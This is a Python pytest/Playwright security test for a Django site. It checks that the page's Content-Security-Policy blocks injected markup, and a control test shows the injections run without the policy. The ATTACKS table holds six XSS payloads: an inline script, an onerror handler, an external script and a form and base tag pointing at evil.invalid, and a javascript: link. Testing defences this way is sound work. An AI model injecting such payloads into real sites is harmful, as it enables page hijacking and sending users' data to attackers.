"""G-08: should a script ever slip into a page, the browser does not run it.

A real page with its real headers, into which the test puts what an attacker would like to; answered inside the browser.
"""

from concurrent.futures import ThreadPoolExecutor

import pytest
from django.db import connections
from django.http import HttpResponse
from django.test import Client
from playwright.sync_api import Browser, Route

from tests.figures_table import Figure

pytestmark = [pytest.mark.journey, pytest.mark.django_db]

ATTACKS = {
    "script": "<script>document.title = 'gekraakt'</script>",
    "attribuut": "<img src=x onerror=\"document.title = 'gekraakt'\">",
    "script van elders": "<script src='http://evil.invalid/x.js'></script>",
    "link die iets uitvoert": "<a id=link href=\"javascript:void(document.title = 'gekraakt')\">x</a>",
    "formulier naar elders": "<form id=form action='http://evil.invalid/'><button>x</button></form>",
    "ander begin van adressen": "<base href='http://evil.invalid/'>",
}
WORKED = "document.title === 'gekraakt' || document.baseURI.startsWith('http://evil.invalid')"


def real_page() -> HttpResponse:
    """Asked in a thread, whose connection ends with it: beside a browser Django would open one that stays."""
    try:
        return Client().get("/privacy/")
    finally:
        connections.close_all()


def visit(browser: Browser, attack: str, *, with_policy: bool) -> tuple[bool, list[str], list[str]]:
    """Did the attack work, of what did the browser complain, and what was asked of another site?"""
    with ThreadPoolExecutor(1) as elsewhere:
        response = elsewhere.submit(real_page).result()
    headers = {name: value for name, value in response.headers.items() if name.startswith(("Content", "X-"))}
    if not with_policy:
        del headers["Content-Security-Policy"]
    body = response.content.decode().replace("<main", f"{attack}<main", 1)
    asked: list[str] = []

    def answer(route: Route) -> None:
        if "evil.invalid" in route.request.url:
            asked.append(route.request.url)
            script = "document.title = 'gekraakt'"
            kind = "text/javascript" if route.request.resource_type == "script" else "text/html"
            route.fulfill(body=script if kind == "text/javascript" else "<title>gekraakt</title>", content_type=kind)
        elif route.request.resource_type == "document":
            route.fulfill(body=body, headers=headers)
        else:
            route.fulfill(status=404, body="")

    page = browser.new_page()
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text) if "Security Policy" in message.text else None)
    page.route("**/*", answer)
    page.goto("http://hulp.example/privacy/", wait_until="load")
    for element in ("#link", "#form button"):
        if page.locator(element).count():
            page.locator(element).click(no_wait_after=True)
    if with_policy:
        if not complaints:
            page.wait_for_event("console", timeout=5000)
    else:
        page.wait_for_function(WORKED, timeout=5000)
    worked = bool(page.evaluate(WORKED))
    page.close()
    return worked, complaints, asked


@pytest.mark.parametrize("name", ATTACKS)
def test_what_slips_into_a_page_does_not_run(name: str, browser: Browser, figure: Figure) -> None:
    worked, complaints, asked = visit(browser, ATTACKS[name], with_policy=True)

    assert complaints
    assert asked == []
    figure("G-08", f"{name} in een pagina: keren uitgevoerd", int(worked), goal="0")


@pytest.mark.control_of("test_what_slips_into_a_page_does_not_run")
@pytest.mark.parametrize("name", ATTACKS)
def test_without_the_policy_it_would_run(name: str, browser: Browser) -> None:
    """The control."""
    worked, complaints, _ = visit(browser, ATTACKS[name], with_policy=False)

    assert worked
    assert complaints == []
